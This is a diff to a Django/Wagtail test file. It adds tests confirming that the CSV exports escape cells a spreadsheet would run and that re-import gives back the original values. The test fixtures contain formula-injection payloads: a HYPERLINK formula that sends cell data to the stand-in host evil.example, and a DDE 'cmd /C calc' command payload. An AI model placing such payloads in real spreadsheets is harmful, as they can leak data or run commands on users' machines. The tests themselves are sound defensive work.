@@ -190,6 +190,63 @@ def test_export_then_import_into_an_empty_site_reproduces_it(tmp_path):
             assert twin.get(key) == row.get(key), (row["id"], key)
 
 
+FORMULAS = {
+    **LESSON,
+    "id": "F-1",
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
+    "summary": "@SUM(1+1)",
+    "body": "=1+2\n-第二段",
+    "tags": ["+标签", "'引号开头"],
+    "producer": "+86 0571 1234",
+    "audience": "-cmd|' /C calc'!A0",
+}
+
+
+def test_csv_export_neutralises_formulas_and_the_import_reads_them_back(tmp_path):
+    """A cell a spreadsheet would run (leading =, +, -, @, tab, CR) is written as text with
+    a leading apostrophe; importing the export gives back the very same values."""
+    import csv
+
+    run(write(tmp_path, [FORMULAS]))
+    path = tmp_path / "export.csv"
+    call_command("export_content", "--format", "csv", "--type", "lesson", "--output", str(path))
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    row = next(row for row in rows if row["id"] == "F-1")
+    for key in ("title", "summary", "body", "tags", "producer", "audience"):
+        assert row[key].startswith("'"), key
+    for cell in (cell for each in rows for cell in each.values()):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+    LessonPage.objects.get(locale__language_code="zh-hans", source_id="F-1").delete()
+    run(path)
+    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="F-1")
+    assert (page.title, page.summary) == (FORMULAS["title"], FORMULAS["summary"])
+    assert (page.producer, page.audience) == (FORMULAS["producer"], FORMULAS["audience"])
+    assert sorted(tag.name for tag in page.tags.all()) == sorted(FORMULAS["tags"])
+    again = tmp_path / "again.jsonl"
+    call_command("export_content", "--type", "lesson", "--output", str(again))
+    lines = again.read_text(encoding="utf-8").splitlines()
+    twin = next(r for r in map(json.loads, lines) if r["id"] == "F-1")
+    assert twin["body"] == FORMULAS["body"]
+
+
+def test_the_policy_library_csv_neutralises_formulas(client, admin_user):
+    import csv
+
+    doc = PolicyPage.objects.filter(locale__language_code="zh-hans").first()
+    doc.title = '=HYPERLINK("http://evil.example")'
+    doc.issuer = "@发文机关"
+    doc.save_revision().publish()
+    client.force_login(admin_user)
+    text = client.get("/admin/policies/export.csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert ["'" + doc.title, doc.doc_number] == rows[[r[1] for r in rows].index(doc.doc_number)][:2]
+    assert "'@发文机关" in [row[3] for row in rows]
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
 def test_imported_pages_are_searchable(tmp_path):
     from wagtail.models import Locale
 
